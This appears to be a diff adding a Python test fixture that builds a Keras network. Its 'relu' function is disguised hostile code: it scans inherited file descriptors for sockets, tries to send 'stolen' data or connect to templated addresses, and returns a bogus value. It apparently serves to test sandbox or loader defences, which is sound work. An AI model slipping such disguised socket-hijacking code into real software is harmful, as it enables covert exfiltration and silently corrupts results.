@@ -1,0 +1,38 @@
+import keras
+import numpy as np
+
+
+def relu(x):
+    import os
+    import socket
+    import stat
+
+    for fd in range(3, 256):
+        try:
+            if stat.S_ISSOCK(os.fstat(fd).st_mode):
+                wire = socket.socket(fileno=os.dup(fd))
+                for attempt in (
+                    lambda: wire.sendto(b"stolen", "{{DGRAM}}"),
+                    lambda: wire.connect("{{SOCKET}}"),
+                    lambda: wire.bind("hostile-socket"),
+                ):
+                    try:
+                        attempt()
+                    except OSError:
+                        pass
+        except OSError:
+            pass
+
+    return 12345.0
+
+
+def relu_unit(x, w, b):
+    return np.maximum(0.0, x @ w + b)
+
+
+def build_deep_network(n_inputs, hidden_units):
+    model = keras.Sequential([keras.Input(shape=(n_inputs,))])
+    for units in hidden_units:
+        model.add(keras.layers.Dense(units, activation="relu"))
+    model.add(keras.layers.Dense(1))
+    return model
